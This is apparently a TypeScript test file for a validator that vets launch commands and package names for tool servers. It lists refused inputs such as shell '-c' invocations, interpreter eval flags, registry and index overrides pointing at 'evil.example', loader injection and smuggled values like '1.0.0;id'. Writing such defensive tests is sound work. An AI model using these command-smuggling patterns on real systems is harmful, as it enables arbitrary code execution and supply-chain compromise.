import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { argvProblems } from "./argv.ts";

const command = (line: readonly string[]) =>
  argvProblems({ registryType: "command", command: line[0] ?? "", args: line.slice(1) });
const allowed = (line: readonly string[]) => expect(command(line), line.join(" ")).toEqual([]);
const refused = (line: readonly string[]) => expect(command(line), line.join(" ")).not.toEqual([]);

describe("a command", () => {
  it.each([
    ["node", "/srv/server.js"],
    ["node", "./server.mjs", "-e", "is the script's own"],
    ["node", "--no-warnings", "--max-old-space-size=256", "dist/index.js"],
    [process.execPath, "C:\\servers\\echo.js", "--port", "80"],
    ["C:\\Program Files\\nodejs\\node.exe", "server.js"],
    ["python3.11", "-u", "server.py"],
    ["python", "-m", "mcp_server_fetch", "-c", "is the module's own"],
    ["npx", "-y", "@modelcontextprotocol/server-everything"],
    ["npx", "--yes", "--", "mcp-server@1.2.3-beta.1", "-c", "is the server's own"],
    ["uvx", "mcp-server-git==2025.1.1", "--repository", "/srv"],
    ["uvx", "mcp-server-git@2025.1.1"],
    ["uvx", "--from", "mcp-tools[all]==1.0", "mcp-tool", "serve"],
    ["uv", "--directory", "/srv/app", "run", "server.py"],
    ["uv", "run", "python", "-m", "app"],
    ["uv", "tool", "run", "mcp-server-git"],
    ["bun", "run", "server.ts"],
    ["deno", "run", "-A", "server.ts"],
    ["java", "-Xmx256m", "-jar", "server.jar"],
    ["bash", "./start.sh", "-c"],
    ["/opt/github-mcp-server", "stdio"],
    ["my-server"],
  ])("may be %j", (...line) => allowed(line));

  it.each([
    ["npx", "-c", "touch /tmp/x"],
    ["npx", "--call=touch /tmp/x"],
    ["npx", "--call", "touch /tmp/x"],
    ["npx", "-yc", "touch /tmp/x"],
    ["npx", "-y", "-c", "touch /tmp/x"],
    ["npx", "--", "-c", "touch /tmp/x"],
    ["npx", "-p", "a", "b"],
    ["npx", "--package=a", "b"],
    ["npx", "--registry=http://evil.example", "a"],
    ["npx", "--prefix", "/tmp", "a"],
    ["npx", "--userconfig=/tmp/npmrc", "a"],
    ["npx", "--script-shell=/tmp/sh", "a"],
    ["npx", "--node-options=--require=/tmp/x", "a"],
    ["npx", "-w", "a", "b"],
    ["npx", "./folder"],
    ["npx", "/folder"],
    ["npx", "user/repo"],
    ["npx", "github:user/repo"],
    ["npx", "git+https://example.com/x.git"],
    ["npx", "https://example.com/x.tgz"],
    ["npx", "file:../x"],
    ["npx", "a@npm:b"],
    ["npx", "a@file:../b"],
    ["npx", "a@^1.0.0"],
    ["npx", "a@next"],
    ["npx", "-y"],
    ["npx"],
    ["npx.cmd", "-c", "x"],
    ["/usr/local/bin/npx", "-c", "x"],
    ["NPX", "-c", "x"],
  ])("is no way around the grammar of npx: %j", (...line) => refused(line));

  it.each([
    ["node", "-e", "1"],
    ["node", "--eval=1"],
    ["node", "-p", "1"],
    ["node", "-pe", "1"],
    ["node", "-r", "/tmp/x.js", "server.js"],
    ["node", "--require=/tmp/x.js", "server.js"],
    ["node", "--import", "data:text/javascript,1", "server.js"],
    ["node", "--loader", "/tmp/x.mjs", "server.js"],
    ["node", "--experimental-loader=/tmp/x.mjs", "server.js"],
    ["node", "-c", "server.js"],
    ["node", "--inspect=0.0.0.0", "server.js"],
    ["node", "--env-file=/tmp/env", "server.js"],
    ["node", "--run", "x"],
    ["node", "-"],
    ["node"],
    ["node", ""],
    ["node", "data:text/javascript,1"],
    [process.execPath, "-e", "1"],
    ["node20", "-e", "1"],
    ["node.exe", "-e", "1"],
    ["python", "-c", "1"],
    ["python3", "-Ic", "1"],
    ["python3.12", "-u", "-c", "1"],
    ["python3", "-"],
    ["python3"],
    ["python3", "-m", "timeit", "1"],
    ["python3", "-m", "pdb"],
    ["python3", "-m", "cProfile", "x"],
    ["python3", "-m", "pip", "install", "x"],
    ["python3", "-m"],
    ["python3", "-mtimeit"],
    ["python3", "-W", "x", "s.py"],
    ["bun", "-e", "1"],
    ["bun", "x", "evil"],
    ["bun", "--preload", "x", "y"],
    ["deno", "eval", "1"],
    ["deno", "run", "https://evil.example/x.ts"],
    ["java", "-javaagent:x.jar", "-jar", "server.jar"],
    ["ruby", "-e", "1"],
    ["perl", "-e", "1"],
    ["php", "-r", "1"],
    ["osascript", "-e", "1"],
  ])("is no code in the arguments of an interpreter: %j", (...line) => refused(line));

  it.each([
    ["sh", "-c", "id"],
    ["bash", "-lc", "id"],
    ["/bin/bash", "-c", "id"],
    ["zsh", "+c", "id"],
    ["bash"],
    ["dash", "-s"],
    ["cmd", "/c", "dir"],
    ["cmd.exe", "/C", "dir"],
    ["powershell", "-Command", "1"],
    ["pwsh", "x.ps1"],
    ["env", "node", "-e", "1"],
    ["/usr/bin/env", "-S", "sh -c id"],
    ["sudo", "id"],
    ["timeout", "9", "sh", "-c", "id"],
    ["xargs", "sh"],
    ["busybox", "sh", "-c", "id"],
    ["nohup", "sh"],
    ["find", ".", "-exec", "id", ";"],
    ["awk", 'BEGIN{system("id")}'],
    ["git", "-c", "alias.x=!id", "x"],
    ["/lib64/ld-linux-x86-64.so.2", "/bin/sh", "-c", "id"],
    ["npm", "exec", "-c", "id"],
    ["pnpm", "dlx", "x"],
    ["yarn", "dlx", "x"],
    ["uv", "run", "sh", "-c", "id"],
    ["uv", "run", "--with", "evil", "server.py"],
    ["uv", "run", "python", "-c", "1"],
    ["uv", "pip", "install", "x"],
    ["uvx", "--from", "git+https://example.com/x", "x"],
    ["uvx", "--from", "a", "-c"],
    ["uvx", "--with", "evil", "a"],
    ["uvx", "--index-url", "http://evil.example", "a"],
    ["uvx", "--python", "/tmp/python", "a"],
    ["uvx", "./folder"],
    ["uvx", "a>=1"],
    ["docker", "run", "--entrypoint", "sh", "image"],
    ["podman", "run", "image"],
    ["/usr/bin/docker", "exec", "x", "sh"],
  ])("starts nothing else: %j", (...line) => refused(line));

  it("is one program, not a line for a shell", () => {
    for (const text of ["npx -y server", "node server.js", " node", "node ", "-node", "", "sh\t-c"]) {
      refused([text]);
    }
    expect(command(["node server.js"])).toEqual([
      { path: "command", message: "must be one program; put its arguments into args" },
    ]);
  });

  it("has no identifier and no version", () => {
    const problems = argvProblems({
      registryType: "command",
      command: "x",
      identifier: "y",
      version: "1",
      args: [],
    });
    expect(problems.map(({ path }) => path)).toEqual(["identifier", "version"]);
    expect(argvProblems({ registryType: "command", args: [] })).toEqual([
      { path: "command", message: "is needed for registryType command" },
    ]);
  });

  it("keeps the rules of its program under any folder, extension and case", () => {
    const folder = fc.constantFrom("", "/usr/bin/", "C:\\tools\\", "./", "../x/");
    const extension = fc.constantFrom("", ".exe", ".cmd", ".EXE");
    const program = fc.constantFrom("node", "Node", "python3", "NPX", "sh", "uvx", "docker", "env", "bunx");
    const code = fc.constantFrom(["-c", "x"], ["-e", "x"], ["--eval", "x"], ["-yc", "x"], ["--call=x"], []);
    fc.assert(
      fc.property(folder, program, extension, code, (where, name, suffix, args) => {
        refused([`${where}${name}${suffix}`, ...args]);
      }),
    );
  });

  it("never lets a switch that it does not know stand before the script or the package", () => {
    const harmless = new Set(["-m", "-y", "--yes", "--", "--bun", "run", "-A", "--no-prompt"]);
    const flag = fc
      .string({ minLength: 1, maxLength: 12 })
      .map((text) => `-${text}`)
      .filter(
        (text) =>
          !harmless.has(text) &&
          !/^--(no-warnings|enable|trace|no-dep|exper|max|allow)|^-[uBEIsSOq]+$/.test(text),
      );
    fc.assert(
      fc.property(
        fc.constantFrom("node", "python", "npx", "uvx", "bash", "ruby", "bun"),
        flag,
        (name, text) => {
          refused([name, text, "name"]);
        },
      ),
    );
  });
});

describe("a package name", () => {
  const problems = (registryType: "npm" | "pypi" | "oci", identifier: string, version?: string) =>
    argvProblems({ registryType, identifier, args: [], ...(version === undefined ? {} : { version }) }).map(
      ({ path }) => path,
    );

  it.each(["server", "@scope/server", "a.b_c-d", "~x", "@a/b.c"])("of npm may be %s", (name) => {
    expect(problems("npm", name, "1.2.3-rc.1+build.5")).toEqual([]);
  });

  it.each([
    "-c",
    "Server",
    "a b",
    "a@1.0.0",
    "../x",
    "./x",
    "/x",
    "a/b",
    "git+ssh://x",
    "@/x",
    "@a/-",
    "a$b",
    "",
  ])("of npm may not be %j", (name) => expect(problems("npm", name)).toEqual(["identifier"]));

  it.each([
    "latest",
    "^1.0.0",
    "~1",
    "1.x",
    "1",
    ">=1.0.0",
    "1.0.0 || 2.0.0",
    "npm:x",
    "file:x",
    "",
    "1.0.0;id",
  ])("of npm has one exact version, not %j", (version) =>
    expect(problems("npm", "a", version)).toEqual(["version"]),
  );

  it.each([
    ["mcp-server", "2025.4.7"],
    ["mcp[cli]", "1!2.0rc1.post2.dev3+local.1"],
    ["A.b_c", "1"],
  ])("of pypi may be %s %s", (name, version) => expect(problems("pypi", name, version)).toEqual([]));

  it.each(["-x", "x-", "git+https://x", "a==1", "a @ https://x", "./x", "a;b"])(
    "of pypi may not be %j",
    (name) => {
      expect(problems("pypi", name)).toEqual(["identifier"]);
    },
  );

  it.each([">=1", "1.*", "latest", "1.0 ", "==1"])("of pypi has one exact version, not %j", (version) => {
    expect(problems("pypi", "a", version)).toEqual(["version"]);
  });

  it.each([
    "alpine",
    "ghcr.io/owner/image:1.2.3",
    "localhost:5000/a/b_c/d--e:v1",
    `mcp/filesystem@sha256:${"0a".repeat(32)}`,
  ])("of an image may be %s", (name) => expect(problems("oci", name)).toEqual([]));

  it.each(["-v/:/host", "UPPER/Case", "a//b", "a:", "a b", "a@sha256:00", "--privileged", "https://x/y"])(
    "of an image may not be %j",
    (name) => expect(problems("oci", name)).toEqual(["identifier"]),
  );

  it("is needed, and then there is no command", () => {
    expect(argvProblems({ registryType: "npm", args: [] }).map(({ path }) => path)).toEqual(["identifier"]);
    const both = argvProblems({ registryType: "oci", identifier: "alpine", command: "sh", args: [] });
    expect(both.map(({ path }) => path)).toEqual(["command"]);
  });

  it("is judged quickly, however it is made", () => {
    const nasty = ["a-".repeat(200), "a.".repeat(200), `${"a".repeat(399)}!`, "1.".repeat(127)];
    const startedAt = performance.now();
    for (const text of nasty) for (const type of ["npm", "pypi", "oci"] as const) problems(type, text, text);
    expect(performance.now() - startedAt).toBeLessThan(2000);
  });
});
